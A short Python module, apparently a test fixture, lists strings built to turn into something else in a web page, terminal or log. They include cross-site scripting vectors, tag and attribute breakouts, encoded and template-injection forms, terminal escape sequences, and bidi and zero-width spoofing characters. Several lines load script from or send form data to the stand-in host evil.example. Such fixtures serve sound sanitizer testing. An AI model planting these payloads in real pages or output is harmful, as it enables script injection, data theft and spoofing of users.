"""Texts that try to become something else in a page, a terminal or a log."""

PAYLOADS = [
    # elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<form action=//evil.example><input name=x>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<object data=//evil.example></object>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # out of what surrounds them
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" style="background:url(//evil.example)',
    "</td></tr></table><script>alert(1)</script>",
    "</pre></details></div><iframe src=//evil.example>",
    "</title></textarea></style></script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    # what is read twice
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "javascript:alert(1)",
    "$\\href{javascript:alert(1)}{x}$",
    "[click](javascript:alert(1))",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # what is not seen, or turned around
    "user\u202eexe.\u2066txt",
    "nul\x00 bell\x07 escape\x1b]0;owned\x07\x1b[2J",
    "c1 \x9b2J \x85 del \x7f",
    "zero\u200bwidth\u200d\ufeff\u2060 tag\U000e0041 filler\u3164",
    "line\u2028and\u2029paragraph\r\nreturn",
]

UNSEEN = (
    "\x00\x07\x1b\x7f\x85\x9b\r\u061c\u200b\u200d\u200e\u200f\u2028\u2029\u202a\u202e\u2060\u2066\u2069\u3164\ufeff"
    "\U000e0041"
)
"""What no front end may be given as it is."""
